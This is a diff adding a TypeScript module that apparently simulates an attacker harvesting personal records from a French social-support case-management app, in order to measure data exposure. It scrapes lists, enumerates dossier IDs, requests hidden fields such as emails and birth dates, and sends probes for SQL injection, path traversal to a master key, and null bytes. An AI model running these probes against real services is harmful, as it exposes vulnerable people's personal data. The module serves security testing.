@@ -1,0 +1,157 @@
+import type { Exposure } from '../exposure.ts';
+import type { Answer, Visitor } from '../visitor.ts';
+import type { World } from '../world.ts';
+
+/** Requests of one session at once; the server makes others wait. */
+const LANES = 4;
+/** After so many answers in a row that tell nothing new, a door is given up. */
+const PATIENCE = 200;
+/** So many dossiers are read to the bottom: more than any budget allows, fewer than would take all day. */
+const DEEP = 120;
+
+/**
+ * Reads whatever these sessions can be made to show, through every door that shows people: lists with their filters
+ * and pages, numbers in sequence, searches by letters, banners, boards, exports that might exist, one's own accesses.
+ * The attacker is told which numbers exist and where, and gives a door up only after 200 answers without anybody new.
+ */
+export async function readEverything(
+  sessions: readonly Visitor[],
+  world: World,
+  seen: Exposure,
+  home: number,
+) {
+  for (const visitor of sessions) await tryOddDoors(visitor, world, home);
+  await walkLists(sessions);
+  await readDeep(sessions, world, seen, home);
+  await walkNumbers(sessions, world, seen, home);
+  for (const visitor of sessions) await searchByLetters(visitor);
+}
+
+/** Takes what `next` gives, on all lanes of all sessions, until it ends or nothing new came for long. */
+async function flood(
+  sessions: readonly Visitor[],
+  next: () => number | null,
+  ask: (visitor: Visitor, n: number) => Promise<number>,
+): Promise<void> {
+  let vain = 0;
+  const lane = async (visitor: Visitor) => {
+    for (let n = next(); n !== null && vain < PATIENCE; n = next()) {
+      vain = (await ask(visitor, n)) > 0 ? 0 : vain + 1;
+    }
+  };
+  await Promise.all(sessions.flatMap((visitor) => Array.from({ length: LANES }, () => lane(visitor))));
+}
+
+async function walkLists(sessions: readonly Visitor[]): Promise<void> {
+  // The product's pages end at 9,999; further people are found by number.
+  let page = 0;
+  await flood(
+    sessions,
+    () => (page < 9_999 ? ++page : null),
+    async (visitor, n) => (await visitor.get(`/portefeuille?page=${n}`)).fresh,
+  );
+  for (const filter of ['quiet', 'active', 'paused', 'closed']) {
+    for (const n of [1, 2, 9_999]) await sessions[0]?.get(`/portefeuille?filtre=${filter}&page=${n}`);
+  }
+}
+
+/** Numbers in sequence from home outwards: the door of a dossier, and every second one another door with a number. */
+async function walkNumbers(sessions: readonly Visitor[], world: World, seen: Exposure, home: number) {
+  let tried = 0;
+  const start = firstOf(world, home);
+  const next = () => {
+    while (tried < world.people) {
+      tried += 1;
+      const person = 1 + ((start - 1 + tried - 1) % world.people);
+      if (!seen.anyone.has(person)) return person;
+    }
+    return null;
+  };
+  const total = (answers: Answer[]) => answers.reduce((sum, answer) => sum + answer.fresh, 0);
+  await flood(sessions, next, async (visitor, person) => {
+    const ref = world.refOf(person);
+    const opened = await visitor.get(`/dossiers/${ref}`);
+    if (opened.fresh > 0 || person % 8 !== 0) return opened.fresh;
+    return total([
+      opened,
+      await visitor.get(`/dossiers/${ref}/modifier`),
+      await visitor.get(`/formations?pour=${ref}`),
+      await visitor.get(`/orientations/nouvelle?pour=${ref}`),
+      await visitor.get(`/orientations/${person}`),
+      await visitor.post(`/dossiers/${ref}/afficher`, { field: 'email', purpose: 'follow_up' }),
+      await visitor.post(`/dossiers/${ref}/notes`, { kind: 'call', note: 'x' }),
+    ]);
+  });
+}
+
+/** One's own people first: notes, ways to reach them, identifiers. */
+async function readDeep(sessions: readonly Visitor[], world: World, seen: Exposure, home: number) {
+  let person = firstOf(world, home) - 1;
+  const last = Math.min(world.people, person + DEEP);
+  await flood(
+    sessions,
+    () => (person < last ? ++person : null),
+    async (visitor, n) => {
+      const ref = world.refOf(n);
+      const before = seen.byClass();
+      await visitor.get(`/dossiers/${ref}`);
+      for (const field of ['email', 'franceTravailId', 'birthDate'])
+        await visitor.post(`/dossiers/${ref}/afficher`, { field, purpose: 'follow_up' });
+      const after = seen.byClass();
+      return after.contact + after.identifier - before.contact - before.identifier;
+    },
+  );
+}
+
+async function searchByLetters(visitor: Visitor): Promise<void> {
+  const given = ['lin', 'noe', 'ine', 'mal', 'jad', 'ily', 'zoe', 'axe', 'may', 'tom'];
+  for (const start of given) {
+    for (const family of ['z', 'zq', 'zqa', 'zqaa', '%', 'zqaaaaab'])
+      await visitor.post('/portefeuille/recherche', { q: `${start} ${family}` });
+  }
+}
+
+/** Pages that name somebody by the way, exports that might exist, and nonsense that might make an error talk. */
+async function tryOddDoors(visitor: Visitor, world: World, home: number): Promise<void> {
+  const ref = world.refOf(firstOf(world, home));
+  const pages = [
+    ...[
+      '/',
+      '/mes-acces',
+      '/orientations',
+      '/comptes',
+      '/demandes',
+      '/absences',
+      '/pire-cas',
+      '/boite-envoi',
+    ],
+    ...[
+      '/export',
+      '/export.csv',
+      '/portefeuille.csv',
+      '/portefeuille?format=csv',
+      '/portefeuille?limit=100000',
+    ],
+    ...['/api/dossiers', '/api/v1/beneficiaries', `/dossiers/${ref}.json`, `/dossiers/${ref}/documents`],
+    ...[`/dossiers/${ref}%00`, `/dossiers/0-0`, `/dossiers/${ref}?notes=toutes`, '/portefeuille?page=-1'],
+    ...[
+      '/portefeuille?filtre=%27%20OR%201=1',
+      '/assets/../../master.key',
+      '/healthz',
+      '/ma-proposition',
+      '/reponse',
+    ],
+  ];
+  for (const page of pages) await visitor.get(page);
+}
+
+function firstOf(world: World, structure: number): number {
+  let low = 1;
+  let high = world.people;
+  while (low < high) {
+    const middle = (low + high) >> 1;
+    if (world.structureOf(middle) < structure) low = middle + 1;
+    else high = middle;
+  }
+  return low;
+}
